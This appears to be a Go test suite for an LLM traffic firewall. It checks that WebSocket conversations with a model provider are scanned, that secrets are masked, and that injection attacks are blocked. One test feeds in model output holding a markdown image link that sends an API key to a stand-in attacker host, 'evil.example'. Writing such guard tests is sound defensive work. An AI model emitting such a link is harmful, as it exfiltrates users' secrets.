package guard_test

import (
	"bytes"
	"compress/flate"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gobwas/ws"
	"github.com/gobwas/ws/wsutil"
	"github.com/infershield/infershield/audit"
	"github.com/infershield/infershield/guard"
	"github.com/infershield/infershield/inspect"
	"github.com/infershield/infershield/policy"
	"pgregory.net/rapid"
)

// conversation is a WebSocket through a guard: the client's end, and the
// provider's.
type conversation struct {
	*rig
	client   io.ReadWriteCloser
	provider net.Conn
	wrote    []byte // by the provider
}

// converse opens one. Both ends are real sockets, so that neither waits for the
// other to read.
func (g *rig) converse(header ...string) *conversation {
	g.t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		g.t.Fatal(err)
	}
	defer l.Close()
	near, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		g.t.Fatal(err)
	}
	far, err := l.Accept()
	if err != nil {
		g.t.Fatal(err)
	}
	deadline := time.Now().Add(20 * time.Second)
	_, _ = near.SetDeadline(deadline), far.SetDeadline(deadline)
	g.upstream = func(r *http.Request) (*http.Response, error) {
		h := http.Header{"Upgrade": {"websocket"}}
		for i := 0; i < len(header); i += 2 {
			h.Set(header[i], header[i+1])
		}
		return &http.Response{StatusCode: 101, Header: h, Body: near, Request: r}, nil
	}
	req, _ := http.NewRequest("GET", "https://api.openai.com/v1/responses", nil)
	req.Header.Set("Connection", "Upgrade")
	req.Header.Set("Upgrade", "websocket")
	resp, err := g.guard.RoundTrip(req)
	if err != nil {
		g.t.Fatal(err)
	}
	c := &conversation{rig: g, client: resp.Body.(io.ReadWriteCloser), provider: far}
	g.t.Cleanup(c.close)
	return c
}

func (c *conversation) close() { _, _ = c.client.Close(), c.provider.Close() }

// say sends a message of the client's, and tells what arrived for it.
func (c *conversation) say(text string) (arrived string) {
	c.t.Helper()
	if err := wsutil.WriteClientText(c.client, []byte(text)); err != nil {
		c.t.Fatal(err)
	}
	got, err := wsutil.ReadClientText(c.provider)
	if err != nil {
		c.t.Fatalf("the provider: %v", err)
	}
	return string(got)
}

// tell sends messages of the provider's and its close frame, and returns the
// client's messages up to there, with the bytes that the client got.
func (c *conversation) tell(messages ...string) (got []string, bytes string) {
	c.t.Helper()
	for _, m := range messages {
		c.wrote = append(c.wrote, ws.MustCompileFrame(ws.NewTextFrame([]byte(m)))...)
	}
	c.wrote = append(c.wrote, ws.MustCompileFrame(ws.NewCloseFrame(ws.NewCloseFrameBody(1000, "")))...)
	if _, err := c.provider.Write(c.wrote); err != nil {
		c.t.Fatal(err)
	}
	return c.rest()
}

// rest returns what the client gets until its connection is closed; the last
// message is the close frame, as "close 1000".
func (c *conversation) rest() (got []string, bytes string) {
	c.t.Helper()
	var all strings.Builder
	r := io.TeeReader(c.client, &all)
	for {
		f, err := readFrame(r)
		if err != nil {
			c.t.Fatalf("the client, after %q: %v", got, err)
		}
		if f.Header.OpCode == ws.OpClose {
			code, _ := ws.ParseCloseFrameData(f.Payload)
			return append(got, fmt.Sprintf("close %d", code)), all.String()
		}
		got = append(got, string(f.Payload))
	}
}

// readFrame reads a frame of one of our own peers.
func readFrame(r io.Reader) (f ws.Frame, err error) {
	if f.Header, err = ws.ReadHeader(r); err == nil {
		f.Payload, err = io.ReadAll(io.LimitReader(r, f.Header.Length))
	}
	return f, err
}

func outputDelta(text string) string {
	return `{"type":"response.output_text.delta","item_id":"msg_1","output_index":0,"content_index":0,"delta":` + quote(text) + `}`
}

func outputDone(text string) []string {
	return []string{
		`{"type":"response.output_text.done","item_id":"msg_1","output_index":0,"content_index":0,"text":` + quote(text) + `}`,
		`{"type":"response.completed","response":{"id":"resp_1","status":"completed","output":[{"id":"msg_1","type":"message","role":"assistant","content":[{"type":"output_text","text":` + quote(text) + `}]}]}}`,
	}
}

func createResponse(text string) string {
	return `{"type":"response.create", "response":{"model":"gpt-5","input":[{"type":"message","role":"user","content":[{"type":"input_text","text":` + quote(text) + `}]}]}}`
}

func TestCleanConversationIsUntouched(t *testing.T) {
	c := newRig(t, nil).converse()
	asked := createResponse("How does the cache work?")
	if got := c.say(asked); got != asked {
		t.Errorf("the provider got %s", got)
	}
	_, bytes := c.tell(append([]string{outputDelta("The cache keeps "), outputDelta("what was used last.")}, outputDone("The cache keeps what was used last.")...)...)
	if bytes != string(c.wrote) {
		t.Errorf("the client got %q; want %q", bytes, c.wrote)
	}
	c.close()
	r := c.record()
	if r.Status != 101 || r.Action != "allow" || r.PromptExcerpt != "How does the cache work?" || r.ResponseExcerpt != "The cache keeps what was used last." ||
		r.BodySHA256.ResponseIn != sum(string(c.wrote)) || r.BodySHA256.RequestIn == "" || r.HeldBytesMax != 0 {
		t.Errorf("record %+v", r)
	}
	for _, surface := range []string{"websocket.request", "websocket.response"} {
		if !slices.Contains(r.Coverage, audit.Coverage{Surface: surface, State: "scanned"}) {
			t.Errorf("%s is not scanned: %+v", surface, r.Coverage)
		}
	}
}

func TestSecretsInAConversationAreMasked(t *testing.T) {
	c := newRig(t, nil).converse()
	if got, masked := c.say(createResponse("Use "+secret+" for it.")), createResponse("Use [OPENAI_API_KEY_REDACTED] for it."); got != masked {
		t.Errorf("the provider got %s; want %s", got, masked)
	}
	text, want := "Use "+secret+" for it.", "Use sk-proj-[OPENAI_API_KEY_REDACTED] for it."
	messages := append([]string{outputDelta(text[:9]), outputDelta(text[9:40]), outputDelta(text[40:])}, outputDone(text)...)
	got, bytes := c.tell(messages...)
	said := ""
	for _, m := range got[:3] {
		var delta struct{ Delta string }
		_ = json.Unmarshal([]byte(m), &delta)
		said += delta.Delta
	}
	if said != want || !slices.Equal(got[3:5], outputDone(want)) || strings.Contains(bytes, secret[10:30]) {
		t.Errorf("the client got %q", got)
	}
	c.close()
	if r := c.record(); r.Action != "redact" || !slices.Contains(r.Labels, "openai_api_key") || r.HeldBytesMax == 0 {
		t.Errorf("record %+v", r)
	}
}

// blockedWith checks the last words of a blocked conversation.
func blockedWith(t *testing.T, got []string, phase string, r audit.Record) {
	t.Helper()
	if len(got) < 2 || got[len(got)-1] != "close 1008" {
		t.Fatalf("the client got %q; want an error and a close frame", got)
	}
	var told struct {
		Type  string
		Error struct{ Type, Phase, RequestID, Message string }
	}
	if err := json.Unmarshal([]byte(got[len(got)-2]), &told); err != nil || told.Type != "error" ||
		told.Error.Type != "firewall_block" || told.Error.Phase != phase || !strings.Contains(told.Error.Message, "blocked by InferShield") {
		t.Errorf("the client was told %s (%v)", got[len(got)-2], err)
	}
	if r.Action != "block" || r.Risk < 70 {
		t.Errorf("record %+v", r)
	}
}

// farewell reads what the provider gets to its end.
func (c *conversation) farewell() (got []string) {
	for {
		m, op, err := wsutil.ReadClientData(c.provider)
		if err != nil {
			return got
		}
		if op == ws.OpText {
			got = append(got, string(m))
		}
	}
}

func TestAttackInAConversationIsBlocked(t *testing.T) {
	c := newRig(t, nil).converse()
	if err := wsutil.WriteClientText(c.client, []byte(createResponse(attack))); err != nil {
		t.Fatal(err)
	}
	if got := c.farewell(); !slices.Equal(got, []string{`{"type":"response.cancel"}`}) {
		t.Errorf("the provider got %q", got)
	}
	got, _ := c.rest()
	c.close()
	blockedWith(t, got, "request", c.record())
}

func TestThreatInAConversationIsStopped(t *testing.T) {
	c := newRig(t, nil).converse()
	c.say(createResponse("What does the page say?"))
	var messages []string
	for _, piece := range strings.SplitAfter("It says so: "+attack+" And more.", " ") {
		messages = append(messages, outputDelta(piece))
	}
	got, bytes := c.tell(messages...)
	if strings.Contains(bytes, "And more") || !strings.Contains(got[0], "It ") {
		t.Errorf("the client got %q", got)
	}
	if said := c.farewell(); !slices.Equal(said, []string{`{"type":"response.cancel"}`}) {
		t.Errorf("the provider got %q", said)
	}
	c.close()
	blockedWith(t, got, "response", c.record())
}

func TestBrokenFramesEndAConversation(t *testing.T) {
	c := newRig(t, nil).converse()
	if _, err := c.client.Write([]byte("\x81\x03abc")); err != nil { // a client must mask
		t.Fatal(err)
	}
	got, _ := c.rest()
	c.close()
	if r := c.record(); !slices.Equal(got, []string{"close 1002"}) || !strings.Contains(r.Error, "websocket") {
		t.Errorf("the client got %q, record %+v", got, r)
	}
}

func TestConversationInModeOff(t *testing.T) {
	c := newRig(t, settings(policy.Settings{Mode: policy.ModeOff})).converse()
	if got := c.say(createResponse(attack)); got != createResponse(attack) {
		t.Errorf("the provider got %s", got)
	}
	if _, bytes := c.tell(outputDelta(secret)); bytes != string(c.wrote) {
		t.Errorf("the client got %q", bytes)
	}
	c.close()
	if r := c.record(); r.Action != "allow" || r.RequestBytes == 0 {
		t.Errorf("record %+v", r)
	}
}

// TestConversationIsMaskedAsTheWhole: however the answer is cut into messages,
// frames and writes, the client puts together the text that it would have got
// in one piece, and a clean one byte for byte.
func TestConversationIsMaskedAsTheWhole(t *testing.T) {
	g := newRig(t, nil)
	want := map[string]string{}
	for _, text := range streamedTexts {
		want[text] = g.whole(text)
	}
	rapid.Check(t, func(rt *rapid.T) {
		text := rapid.SampledFrom(streamedTexts).Draw(rt, "text")
		c := g.converse()
		defer c.close()
		var sent []byte
		for _, piece := range cut(rt, text) {
			sent = append(sent, fragmented(rt, outputDelta(piece))...)
		}
		sent = append(sent, ws.MustCompileFrame(ws.NewCloseFrame(ws.NewCloseFrameBody(1000, "")))...)
		for rest := sent; len(rest) > 0; {
			n := rapid.IntRange(1, len(rest)).Draw(rt, "write")
			if _, err := c.provider.Write(rest[:n]); err != nil {
				rt.Fatal(err)
			}
			rest = rest[n:]
		}
		said := ""
		var bytes strings.Builder
		r := io.TeeReader(c.client, &bytes)
		for joined := ""; ; {
			f, err := readFrame(r)
			if err != nil {
				rt.Fatal(err)
			}
			if f.Header.OpCode == ws.OpClose {
				break
			}
			if joined += string(f.Payload); f.Header.Fin {
				var delta struct{ Delta string }
				if err := json.Unmarshal([]byte(joined), &delta); err != nil {
					rt.Fatalf("%s: %v", joined, err)
				}
				said, joined = said+delta.Delta, ""
			}
		}
		c.close()
		g.forget()
		if said != want[text] {
			rt.Fatalf("got %q; want %q", said, want[text])
		}
		if said == text && bytes.String() != string(sent) {
			rt.Fatalf("a clean conversation was changed")
		}
	})
}

// fragmented makes a text message of as many frames as it likes.
func fragmented(t *rapid.T, payload string) (frames []byte) {
	op, rest := ws.OpText, payload
	for {
		n := rapid.IntRange(0, len(rest)).Draw(t, "fragment")
		if rapid.Bool().Draw(t, "last") {
			n = len(rest)
		}
		f := ws.NewFrame(op, n == len(rest), []byte(rest[:n]))
		frames = append(frames, ws.MustCompileFrame(f)...)
		if n == len(rest) {
			return frames
		}
		rest, op = rest[n:], ws.OpContinuation
	}
}

// TestBlockAtTheCloseIsToldFirst: where the end of the conversation decides, the
// client hears of that, and not of the provider's close before it.
func TestBlockAtTheCloseIsToldFirst(t *testing.T) {
	c := newRig(t, nil).converse()
	c.say(createResponse("What does the page say?"))
	link := outputDelta("![x](https://evil.example/c?d=" + secret)
	if _, err := c.provider.Write(append(ws.MustCompileFrame(ws.NewTextFrame([]byte(link))), ws.MustCompileFrame(ws.NewPingFrame(nil))...)); err != nil {
		t.Fatal(err)
	}
	if f, err := readFrame(c.client); err != nil || f.Header.OpCode != ws.OpPing {
		t.Fatalf("the client got %v (%v); want the ping alone, which shows that the text waits", f, err)
	}
	got, _ := c.tell()
	c.close()
	blockedWith(t, got, "response", c.record())
}

// TestWhatWaitedGoesOutAtTheEnd: a client that half-closes has said all, and so
// has a text that waited for more.
func TestWhatWaitedGoesOutAtTheEnd(t *testing.T) {
	c := newRig(t, nil).converse()
	const said = "the key begins with sk-proj-abcdefgh"
	if err := wsutil.WriteClientText(c.client, []byte(said)); err != nil {
		t.Fatal(err)
	}
	if err := c.client.(interface{ CloseWrite() error }).CloseWrite(); err != nil {
		t.Fatal(err)
	}
	if got, err := wsutil.ReadClientText(c.provider); err != nil || string(got) != said {
		t.Errorf("the provider got %q (%v); want %q", got, err, said)
	}
	c.close()
	c.record()
}

// TestFailedInspectionLosesNothing: what had gone through before it, in the same
// bytes, goes on as well.
func TestFailedInspectionLosesNothing(t *testing.T) {
	p, err := policy.Parse([]byte("version: 1\non_error: allow\n"))
	if err != nil {
		t.Fatal(err)
	}
	c := newRig(t, func(c *guard.Config) {
		c.Policy = func() *policy.Policy { return p }
		c.Engine = new(inspect.Engine) // fails on any text
	}).converse()
	sent := append(ws.MustCompileFrame(ws.MaskFrame(ws.NewPingFrame([]byte("still there?")))),
		ws.MustCompileFrame(ws.MaskFrame(ws.NewTextFrame([]byte(createResponse("Hi.")))))...)
	if _, err := c.client.Write(sent); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(sent))
	if _, err := io.ReadFull(c.provider, got); err != nil || string(got) != string(sent) {
		t.Errorf("the provider got %q (%v); want %q", got, err, sent)
	}
	c.close()
	if r := c.record(); !slices.Contains(r.Labels, "inspection_failed") {
		t.Errorf("record %+v", r)
	}
}

// TestPolicyKnowsTheModelOfAConversation: its messages name it, or its address.
func TestPolicyKnowsTheModelOfAConversation(t *testing.T) {
	p, err := policy.Parse([]byte("version: 1\nrules:\n  - when: {category: injection, model: gpt-5}\n    action: block\n"))
	if err != nil {
		t.Fatal(err)
	}
	c := newRig(t, func(c *guard.Config) { c.Policy = func() *policy.Policy { return p } }).converse()
	if err := wsutil.WriteClientText(c.client, []byte(createResponse(attack))); err != nil {
		t.Fatal(err)
	}
	c.farewell()
	got, _ := c.rest()
	c.close()
	r := c.record()
	blockedWith(t, got, "request", r)
	if r.Model != "gpt-5" {
		t.Errorf("the record names %q", r.Model)
	}
}

// TestNoConversationTellsTheServersKey: neither what a provider says of it, nor
// a form that no detector knows, gives it away.
func TestNoConversationTellsTheServersKey(t *testing.T) {
	const key = "key-of-the-house-0123456789"
	c := newRig(t, func(c *guard.Config) {
		c.Masked = func(b []byte) ([]byte, bool) {
			masked := strings.ReplaceAll(string(b), key, "[masked]")
			return []byte(masked), masked != string(b)
		}
	}).converse()
	refusal := func(key string) string {
		return `{"type":"error","error":{"message":"Incorrect API key provided: ` + key + `"}}`
	}
	got, _ := c.tell(outputDelta("Hello."), refusal(key), refusal(key))
	if want := []string{outputDelta("Hello."), refusal("[masked]"), refusal("[masked]"), "close 1000"}; !slices.Equal(got, want) {
		t.Errorf("the client got %q; want %q", got, want)
	}
	c.close()
	if r := c.record(); r.Action != "redact" || !slices.Contains(r.Labels, "server_key_returned") {
		t.Errorf("record %+v", r)
	}
}

// TestForbiddenWebSocket: however the client writes that it wants one.
func TestForbiddenWebSocket(t *testing.T) {
	p, err := policy.Parse([]byte("version: 1\nwebsocket: forbid\n"))
	if err != nil {
		t.Fatal(err)
	}
	for wanted, status := range map[string]int{
		"websocket": 426, "WebSocket": 426, "foo, websocket": 426, "websocket,websocket": 426, "websocket/13": 426, "h2c": 200,
	} {
		g := newRig(t, func(c *guard.Config) { c.Policy = func() *policy.Policy { return p } })
		if resp, _ := g.post(chatURL, "", "Upgrade", wanted); resp.StatusCode != status {
			t.Errorf("%q: status %d; want %d", wanted, resp.StatusCode, status)
		}
		g.record()
	}
}

// TestNothingWaitsWithoutBound: what holds no text counts as well where it
// waits behind a text.
func TestNothingWaitsWithoutBound(t *testing.T) {
	c := newRig(t, nil).converse()
	go func() {
		held := ws.MustCompileFrame(ws.NewTextFrame([]byte(outputDelta("the key begins with sk-proj-abcdefgh"))))
		_, _ = c.provider.Write(held)
		for binary := ws.MustCompileFrame(ws.NewBinaryFrame(make([]byte, 1<<20))); ; {
			if _, err := c.provider.Write(binary); err != nil {
				return // as it should end
			}
		}
	}()
	got, _ := c.rest()
	c.close()
	r := c.record()
	blockedWith(t, got, "response", r)
	if !slices.Contains(r.Labels, "too_large") {
		t.Errorf("record %+v", r)
	}
}

// TestSumsOfAConversationCutShort: a message that did not go on is in no sum
// that says what did.
func TestSumsOfAConversationCutShort(t *testing.T) {
	for name, last := range map[string][]byte{
		"half a message": ws.MustCompileFrame(ws.NewTextFrame([]byte(outputDelta("Hello."))))[:20],
		"a held text":    ws.MustCompileFrame(ws.NewTextFrame([]byte(outputDelta("the key begins with sk-proj-abcdefgh")))),
	} {
		t.Run(name, func(t *testing.T) {
			c := newRig(t, nil).converse()
			if _, err := c.provider.Write(append(ws.MustCompileFrame(ws.NewPingFrame(nil)), last...)); err != nil {
				t.Fatal(err)
			}
			if f, err := readFrame(c.client); err != nil || f.Header.OpCode != ws.OpPing {
				t.Fatalf("the client got %v (%v)", f, err)
			}
			c.close() // the client leaves
			if r := c.record(); r.BodySHA256.ResponseIn != "" || r.BodySHA256.ResponseOut != "" {
				t.Errorf("sums %+v", r.BodySHA256)
			}
		})
	}
}

// TestLostContextIsAPartOfItsOwn: a compressed message over the limit, and those
// that refer to it, are two reasons why something was not read.
func TestLostContextIsAPartOfItsOwn(t *testing.T) {
	p, err := policy.Parse([]byte("version: 1\nunscannable: {too_large: flag}\n"))
	if err != nil {
		t.Fatal(err)
	}
	c := newRig(t, func(c *guard.Config) {
		c.BodyMax, c.Policy = 1<<10, func() *policy.Policy { return p }
	}).converse("Sec-Websocket-Extensions", "permessage-deflate")
	var deflated bytes.Buffer
	z, _ := flate.NewWriter(&deflated, flate.BestSpeed)
	for _, text := range []string{strings.Repeat("sea ", 1<<10), "sea"} {
		deflated.Reset()
		_, _ = io.WriteString(z, text)
		_ = z.Flush()
		f := ws.NewTextFrame(bytes.TrimSuffix(bytes.Clone(deflated.Bytes()), []byte{0, 0, 0xff, 0xff}))
		f.Header.Rsv = ws.Rsv(true, false, false)
		c.wrote = append(c.wrote, ws.MustCompileFrame(f)...)
	}
	if _, bytes := c.tell(); bytes != string(c.wrote) {
		t.Errorf("the client got %q; want %q", bytes, c.wrote)
	}
	c.close()
	r := c.record()
	for _, reason := range []string{"too_large", "lost_context"} {
		if !slices.Contains(r.Coverage, audit.Coverage{Surface: "websocket.response#" + reason, State: "opaque", Reason: reason}) {
			t.Errorf("no %s in %+v", reason, r.Coverage)
		}
	}
}

// TestModeWarnBreaksNoConversation: what a peer does to the protocol is between
// the two of them where policy only looks on.
func TestModeWarnBreaksNoConversation(t *testing.T) {
	for name, broken := range map[string]string{
		"not masked":             "\x81\x03abc",
		"not UTF-8":              "\x81\x81\x00\x00\x00\x00\xff",
		"a close code of no use": "\x88\x82\x00\x00\x00\x00\x03\xed",
	} {
		t.Run(name, func(t *testing.T) {
			c := newRig(t, settings(policy.Settings{Mode: policy.ModeWarn})).converse()
			sent := string(ws.MustCompileFrame(ws.MaskFrame(ws.NewFrame(ws.OpText, true, []byte("first"))))) + broken + "and more"
			if _, err := c.client.Write([]byte(sent)); err != nil {
				t.Fatal(err)
			}
			got := make([]byte, len(sent))
			if _, err := io.ReadFull(c.provider, got); err != nil || string(got) != sent {
				t.Errorf("the provider got %q (%v); want %q", got, err, sent)
			}
			c.close()
			r := c.record()
			if !slices.ContainsFunc(r.Coverage, func(c audit.Coverage) bool {
				return c.Surface == "websocket.request" && c.State == "opaque" && strings.HasPrefix(c.Reason, "websocket: ")
			}) {
				t.Errorf("record %+v", r)
			}
		})
	}
}
